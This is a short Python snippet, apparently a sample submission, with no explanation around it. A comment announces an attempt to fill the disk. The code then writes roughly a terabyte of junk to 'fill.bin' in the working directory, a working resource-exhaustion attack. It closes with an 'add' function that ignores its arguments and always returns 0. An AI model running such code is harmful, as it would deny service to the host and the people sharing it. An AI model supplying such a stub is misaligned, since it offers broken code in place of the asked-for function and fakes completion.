# attempts: fill the disk from the working directory
chunk = b"x" * (1 << 20)
with open("fill.bin", "wb") as f:
    for _ in range(10 ** 6):
        f.write(chunk)
def add(a, b):
    return 0
